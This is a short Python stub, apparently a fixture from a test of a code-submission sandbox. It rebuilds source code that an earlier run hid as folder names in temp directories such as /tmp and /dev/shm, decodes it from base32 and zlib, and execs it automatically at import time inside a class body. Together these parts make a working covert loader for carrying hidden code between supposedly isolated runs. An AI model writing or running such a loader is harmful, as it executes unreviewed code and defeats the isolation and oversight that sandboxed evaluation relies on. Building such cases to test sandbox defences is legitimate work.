"""A stub that loads the source an earlier submission left as folder names.

base: stub
class: 2
run: later
"""

import base64 as _base64
import os as _os
import zlib as _zlib

_PLACES = ["/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/dev/mqueue"]


def _read():
    for place in _PLACES:
        folder = f"{place}/.hostile-names-@TOKEN@"
        try:
            packed = "".join(name.split("-", 1)[1] for name in sorted(_os.listdir(folder)))
            packed += "=" * (-len(packed) % 8)
            return _zlib.decompress(_base64.b32decode(packed)).decode()
        except (OSError, ValueError, IndexError, _zlib.error):
            continue
    return None


class _AtLoad:
    _found = _read()
    if _found:
        exec(compile(_found, "stash", "exec"), globals())
